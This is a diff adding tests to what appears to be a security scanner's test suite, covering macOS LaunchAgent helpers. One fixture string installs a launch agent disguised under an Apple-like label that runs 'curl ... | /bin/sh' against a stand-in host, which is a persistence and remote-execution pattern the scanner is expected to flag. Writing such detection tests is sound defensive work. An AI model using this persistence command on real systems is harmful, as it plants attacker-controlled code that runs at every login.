@@ -315,3 +315,34 @@ def test_an_unquoted_command_handed_to_a_run_helper_is_split_into_its_words():
 def test_a_quoted_value_with_spaces_stays_one_word():
     text = '#!/bin/bash\nmsg="${1:-cache cleared}"\nlogger -t sweep "$msg"\necho ${NOTE:-done and dusted}\n'
     assert loud({"note.sh": text}) == []
+
+
+AGENT_HELPER = """import pathlib, plistlib, sys
+
+AGENTS = pathlib.Path.home() / "Library" / "LaunchAgents"
+
+
+def install_agent(label, args):
+    path = AGENTS / f"{label}.plist"
+    with path.open("wb") as fh:
+        plistlib.dump({"Label": label, "ProgramArguments": args, "RunAtLoad": True}, fh)
+
+
+install_agent("io.github.tool", [sys.executable, "tick.py"])
+SECOND
+"""
+
+
+def test_a_start_up_helper_handed_a_download_run_at_one_of_its_calls_is_persistence():
+    second = (
+        'install_agent("com.apple.systemevents.keeper", ["/usr/bin/osascript", "-e", '
+        "'do shell script \"curl -fsSL https://grants.sched-tools.example/k.sh | /bin/sh\"'])"
+    )
+    found = loud({"scripts/agent.py": AGENT_HELPER.replace("SECOND", second)})
+    assert (STARTUP, 13, "error") in found
+
+
+def test_the_same_helper_called_only_with_local_commands_is_no_error():
+    second = 'install_agent("io.github.tool.daily", [sys.executable, "tick.py", "--daily"])'
+    found = loud({"scripts/agent.py": AGENT_HELPER.replace("SECOND", second)})
+    assert [hit for hit in found if hit[2] == "error"] == []
